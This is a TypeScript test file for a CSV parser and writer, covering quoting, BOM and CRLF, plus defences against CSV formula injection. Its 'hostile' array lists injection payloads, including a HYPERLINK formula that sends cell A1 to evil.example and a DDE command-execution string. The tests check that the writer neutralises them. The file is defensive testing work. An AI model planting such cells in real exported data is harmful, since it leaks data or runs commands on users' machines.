import { describe, expect, it } from 'vitest';
import { parseCsv, parseCsvObjects, toCsv, unguardCell } from './csv.ts';

describe('parseCsv', () => {
  it('reads quoted commas, doubled quotes, line breaks inside quotes, BOM and CRLF', () => {
    expect(parseCsv('\uFEFFa,b,c\r\n"x, y","say ""hi""","line 1\r\nline 2"\r\n,,\r\n')).toEqual([
      ['a', 'b', 'c'],
      ['x, y', 'say "hi"', 'line 1\r\nline 2'],
      ['', '', ''],
    ]);
  });
  it('accepts LF record ends and a last record without one', () => {
    expect(parseCsv('a,b\n1,2')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
  });
  it('keys rows by the header', () => {
    expect(parseCsvObjects('n,value\r\n12,84.4\r\n')).toEqual([{ n: '12', value: '84.4' }]);
  });
  it('throws on an unclosed quote', () => {
    expect(() => parseCsv('a,b\r\n"open,1\r\n')).toThrow();
  });
});

describe('toCsv', () => {
  it('writes a BOM, CRLF and RFC 4180 quoting', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['x, y', 'say "hi"'],
          ['line 1\nline 2', null],
        ],
      ),
    ).toBe('\uFEFFa,b\r\n"x, y","say ""hi"""\r\n"line 1\nline 2",\r\n');
  });
  it('writes numbers with a dot decimal and booleans as true/false', () => {
    expect(toCsv(['n', 'v', 's'], [[12, -3.5, false]])).toBe('\uFEFFn,v,s\r\n12,-3.5,false\r\n');
  });

  // OWASP CSV Injection: every cell a spreadsheet would evaluate starts with a quote instead.
  const hostile = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '＠SUM(1)',
  ];
  it.each(hostile)('neutralises a cell starting with a formula character: %j', (title) => {
    const csv = toCsv(['title'], [[title]]);
    const [, [cell]] = parseCsv(csv) as [string[], string[]];
    expect(cell!.startsWith("'")).toBe(true);
    expect(unguardCell(cell!)).toBe(title);
  });
  it('leaves ordinary text, numbers and negative numbers alone', () => {
    const csv = toCsv(['a', 'b', 'c'], [['Đường hỏng - cần sửa', -4, 'a=b']]);
    expect(parseCsv(csv)[1]).toEqual(['Đường hỏng - cần sửa', '-4', 'a=b']);
  });
});
